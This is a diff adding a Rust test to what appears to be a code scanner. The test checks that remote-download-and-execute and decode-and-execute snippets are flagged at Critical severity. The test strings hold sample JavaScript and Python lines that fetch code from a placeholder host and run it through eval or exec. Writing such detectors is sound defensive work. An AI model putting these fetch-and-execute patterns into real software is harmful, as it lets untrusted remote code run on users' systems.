@@ -95,3 +95,25 @@ fn a_function_given_to_run_later_is_not_a_string_built_from_pieces() {
         (RuleId::StringBuiltCommand, Severity::High, 7),
     );
 }
+
+#[test]
+fn a_runner_given_as_a_callback_runs_what_the_call_produces() {
+    assert_finds(
+        "```js\nfetch('https://x.example/p.js')\n  .then(r => r.text())\n  .then(eval);\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 7),
+    );
+    assert_finds(
+        "```python\nimport urllib.request\nlist(map(exec, [urllib.request.urlopen('https://x.example/p').read()]))\n```\n",
+        (RuleId::DownloadExec, Severity::Critical, 8),
+    );
+    assert_finds(
+        "```js\nPromise.resolve(atob(s)).then(eval)\n```\n",
+        (RuleId::DecodeExec, Severity::Critical, 7),
+    );
+    assert_eq!(
+        findings(
+            "```js\nfetch('https://x.example/d').then(r => r.json()).then(console.log)\n```\n"
+        ),
+        []
+    );
+}
